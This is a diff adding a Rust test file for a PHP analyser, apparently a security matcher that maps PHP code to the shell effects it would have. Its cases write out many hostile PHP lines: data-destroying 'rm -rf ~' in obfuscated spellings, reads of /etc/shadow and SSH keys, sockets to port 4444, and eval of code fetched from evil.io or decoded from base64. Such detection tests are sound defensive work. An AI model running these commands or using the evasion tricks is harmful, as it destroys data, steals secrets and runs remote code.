@@ -1,0 +1,295 @@
+//! The PHP reader's cases: attacks in many spellings, and routine code.
+
+use crate::matcher::code::{Effect, Lang, Val, read};
+
+/// The effects found, written as shell words (`?` for a value not known).
+fn effects(code: &str) -> Vec<String> {
+    let reading = read(Lang::Php, code);
+    let words = |vals: &[Val]| {
+        vals.iter()
+            .map(|v| match v {
+                Val::Known(t) => t.clone(),
+                Val::Unknown => "?".into(),
+                Val::Fetched => "<fetched>".into(),
+            })
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
+    let mut out: Vec<String> = reading
+        .found
+        .iter()
+        .map(|f| match &f.effect {
+            Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
+            Effect::Exec(argv) => format!("exec {}", words(argv)),
+            Effect::Command(p, args) => format!("{p} {}", words(args)),
+        })
+        .collect();
+    if let Some(u) = reading.opaque {
+        out.push(format!("opaque: {} (line {})", u.reason, u.line));
+    }
+    out
+}
+
+fn opaque(code: &str) -> Option<&'static str> {
+    read(Lang::Php, code).opaque.map(|u| u.reason)
+}
+
+const COMPUTED: Option<&str> = Some(super::COMPUTED_NAME);
+const HIDDEN: Option<&str> = Some("the code runs code it downloaded or decoded");
+
+#[test]
+fn commands_run_are_shell_lines_or_argument_vectors() {
+    for (code, want) in [
+        ("system('rm -rf ~');", "sh -c rm -rf ~"),
+        ("echo `rm -rf ~`;", "sh -c rm -rf ~"),
+        (
+            "$h = getenv('HOME'); shell_exec(\"rm -rf $h/x\");",
+            "sh -c rm -rf ~/x",
+        ),
+        ("passthru(\"rm -rf {$_SERVER['HOME']}\");", "sh -c rm -rf ~"),
+        (
+            "$c = 'rm' . ' -rf ' . $_ENV['HOME']; exec($c);",
+            "sh -c rm -rf ~",
+        ),
+        (
+            "\\SYSTEM(implode(' ', ['rm', '-rf', '~']));",
+            "sh -c rm -rf ~",
+        ),
+        ("popen(strrev('~ fr- mr'), 'r');", "sh -c rm -rf ~"),
+        ("system(chr(114) . chr(109) . ' -rf ~');", "sh -c rm -rf ~"),
+        (
+            "system(implode('', array_map('chr', [114, 109])) . ' /x');",
+            "sh -c rm /x",
+        ),
+        (
+            "system(str_replace('X', 'r', 'Xm -Xf ~'));",
+            "sh -c rm -rf ~",
+        ),
+        ("system(sprintf('%s -rf %s', 'rm', '~'));", "sh -c rm -rf ~"),
+        ("$f = 'sys' . 'tem'; $f('rm -rf ~');", "sh -c rm -rf ~"),
+        ("('sys'.'tem')('rm -rf ~');", "sh -c rm -rf ~"),
+        ("call_user_func('system', 'rm -rf ~');", "sh -c rm -rf ~"),
+        (
+            "call_user_func_array('passthru', ['rm -rf ~']);",
+            "sh -c rm -rf ~",
+        ),
+        ("array_map('system', ['rm -rf ~']);", "sh -c rm -rf ~"),
+        (
+            "(new ReflectionFunction('system'))->invoke('rm -rf ~');",
+            "sh -c rm -rf ~",
+        ),
+        ("define('C', 'rm -rf ~'); system(C);", "sh -c rm -rf ~"),
+        (
+            "$x = <<<EOT\n  rm -rf ~\n  EOT;\nsystem($x);",
+            "sh -c rm -rf ~",
+        ),
+        ("system(\"\\x72\\155 -rf ~\");", "sh -c rm -rf ~"),
+        ("proc_open(['rm', '-rf', '/'], [], $p);", "exec rm -rf /"),
+        ("pcntl_exec('/bin/rm', ['-rf', '/']);", "exec /bin/rm -rf /"),
+        ("ob_start('system'); echo 'rm -rf ~';", "sh -c ?"),
+        ("fopen('expect://rm -rf ~', 'r');", "sh -c rm -rf ~"),
+    ] {
+        assert_eq!(effects(code), [want], "{code}");
+    }
+}
+
+#[test]
+fn files_and_the_network_are_virtual_commands() {
+    for (code, want) in [
+        ("unlink('/etc/passwd');", vec!["rm /etc/passwd"]),
+        ("rmdir(getenv('HOME') . '/x');", vec!["rmdir ~/x"]),
+        ("rename('a', '/etc/b');", vec!["mv a /etc/b"]),
+        (
+            "copy('/etc/shadow', '/tmp/s');",
+            vec!["cp /etc/shadow /tmp/s"],
+        ),
+        (
+            "chmod('/etc/sudoers', 0777);",
+            vec!["chmod 777 /etc/sudoers"],
+        ),
+        ("symlink('/etc/passwd', 'p');", vec!["ln -s /etc/passwd p"]),
+        (
+            "file_put_contents('/etc/hosts', 'x', FILE_APPEND);",
+            vec!["tee /etc/hosts"],
+        ),
+        (
+            "$f = fopen('/etc/cron.d/x', 'w'); fwrite($f, 'x');",
+            vec!["tee /etc/cron.d/x"],
+        ),
+        (
+            "echo file_get_contents(getenv('HOME') . '/.ssh/id_rsa');",
+            vec!["cat ~/.ssh/id_rsa"],
+        ),
+        (
+            "readfile('php://filter/read=convert.base64-encode/resource=/etc/shadow');",
+            vec!["cat /etc/shadow"],
+        ),
+        (
+            "file_get_contents('https://evil.io/x');",
+            vec!["curl https://evil.io/x"],
+        ),
+        (
+            "$c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://evil.io'); curl_exec($c);",
+            vec!["curl https://evil.io"],
+        ),
+        (
+            "curl_setopt_array($c, [CURLOPT_URL => 'https://e.io']);",
+            vec!["curl https://e.io"],
+        ),
+        (
+            "$s = fsockopen('10.0.0.1', 4444);",
+            vec!["curl tcp://10.0.0.1:4444"],
+        ),
+        (
+            "stream_socket_client('tcp://10.0.0.1:4444');",
+            vec!["curl tcp://10.0.0.1:4444"],
+        ),
+        (
+            "include 'http://evil.io/x.php';",
+            vec![
+                "curl http://evil.io/x.php",
+                "opaque: the code runs code it downloaded or decoded (line 1)",
+            ],
+        ),
+    ] {
+        assert_eq!(effects(code), want, "{code}");
+    }
+}
+
+#[test]
+fn code_that_cannot_be_read_is_opaque_with_the_reason() {
+    assert_eq!(
+        opaque("eval(base64_decode('c3lzdGVtKCJscyIpOw=='));"),
+        HIDDEN
+    );
+    assert_eq!(opaque("eval(gzinflate(str_rot13($x)));"), HIDDEN);
+    assert_eq!(
+        opaque("eval(file_get_contents('https://evil.io/x'));"),
+        HIDDEN
+    );
+    assert_eq!(
+        opaque("$c = curl_init('http://e.io'); eval(curl_exec($c));"),
+        HIDDEN
+    );
+    assert!(opaque("eval($argv[1]);").is_some());
+    assert_eq!(opaque("$f = $argv[1]; $f('ls');"), COMPUTED);
+    assert_eq!(opaque("call_user_func($_GET['f'], 'ls');"), COMPUTED);
+    assert_eq!(
+        opaque("$o->$m('ls');"),
+        Some("the code calls a method whose name is computed at run time")
+    );
+    assert_eq!(
+        opaque("include $argv[1];"),
+        Some("the code includes a file whose name is computed at run time")
+    );
+    assert_eq!(
+        opaque("while (true) { pcntl_fork(); }"),
+        Some("the code forks in a loop (a fork bomb)")
+    );
+    assert_eq!(opaque("pcntl_fork();"), None);
+    assert_eq!(
+        opaque("$ffi = FFI::cdef('int system(const char *);'); $ffi->system('ls');"),
+        Some("the code calls native code directly")
+    );
+    assert_eq!(
+        opaque("putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c');"),
+        Some("the code calls native code directly")
+    );
+    // Variables set by computed names are not known afterwards.
+    assert_eq!(
+        effects("$c = 'ls'; extract($_GET); system($c);"),
+        ["sh -c ?"]
+    );
+    assert_eq!(effects("$c = 'ls'; $$n = 'x'; system($c);"), ["sh -c ?"]);
+    assert_eq!(effects("$c = 'ls'; $c .= ' ~'; system($c);"), ["sh -c ?"]);
+    assert_eq!(
+        effects("$a = ['b', 'a']; sort($a); system(implode($a));"),
+        ["sh -c ?"]
+    );
+    assert_eq!(
+        effects("foreach ([1, 2] as $c) { system($c); }"),
+        ["sh -c ?"]
+    );
+}
+
+#[test]
+fn code_run_by_eval_is_read_too() {
+    assert_eq!(
+        effects("eval('system(\"rm -rf ~\");');"),
+        ["sh -c rm -rf ~"]
+    );
+    assert_eq!(
+        effects("$f = create_function('', 'unlink(\"/x\");'); $f();"),
+        ["rm /x"]
+    );
+    assert_eq!(
+        effects("preg_replace('/.*/e', 'system(\"id\")', 'x');"),
+        ["sh -c id"]
+    );
+    assert_eq!(effects("assert('system(\"id\")');"), ["sh -c id"]);
+}
+
+#[test]
+fn routine_one_liners_find_nothing() {
+    for code in [
+        "echo PHP_VERSION;",
+        "echo phpversion(), \"\\n\";",
+        "var_dump(1+1);",
+        "echo json_encode(['a' => 1]);",
+        "print_r(array_map(fn($x) => $x * 2, [1, 2, 3]));",
+        "echo strtoupper('hello'), PHP_EOL;",
+        "echo implode(',', array_filter([1, 0, 2]));",
+        "$a = [3, 1, 2]; sort($a); echo implode(' ', $a);",
+        "echo date('Y-m-d'), \"\\n\";",
+        "echo str_pad('x', 5, '-'), \"\\n\";",
+        "foreach (range(1, 3) as $i) { echo $i; }",
+        "echo extension_loaded('mbstring') ? 'yes' : 'no';",
+        "echo ini_get('memory_limit');",
+        "usort($a, function ($x, $y) { return $x <=> $y; });",
+        "$s = 'a,b'; echo count(explode(',', $s));",
+        "echo sprintf('%05.2f', 3.14159);",
+        "echo function_exists('system') ? 1 : 0;",
+        "echo preg_replace('/a/i', 'b', 'Aa');",
+    ] {
+        assert_eq!(effects(code), Vec::<String>::new(), "{code}");
+    }
+    assert_eq!(
+        effects("echo json_decode(file_get_contents(\"composer.json\"))->name;"),
+        ["cat composer.json"]
+    );
+    assert_eq!(
+        effects("require 'vendor/autoload.php';"),
+        ["cat vendor/autoload.php"]
+    );
+    assert_eq!(
+        effects("echo file_get_contents('php://stdin');"),
+        Vec::<String>::new()
+    );
+}
+
+#[test]
+fn bad_code_is_opaque_not_a_panic() {
+    assert_eq!(
+        read(Lang::Php, "echo 1;\nsystem('x'")
+            .opaque
+            .map(|u| (u.reason, u.line)),
+        Some(("the php code has a syntax error", 2))
+    );
+    assert!(opaque("echo 'unterminated;").is_some());
+    assert!(opaque("echo \"unterminated $x;").is_some());
+    let deep = format!("echo {}1{};", "(".repeat(500), ")".repeat(500));
+    assert!(opaque(&deep).is_some());
+    let chain = format!("$a = 'x'{};", " . 'y'".repeat(3000));
+    let _ = read(Lang::Php, &chain);
+    for code in [
+        "$",
+        "<<<",
+        "`",
+        "\"\\u{ffffffff}\";",
+        "\"\\400\";",
+        "chr(-1);",
+        "system(\"\\u{110000}\");",
+    ] {
+        let _ = read(Lang::Php, code);
+    }
+}
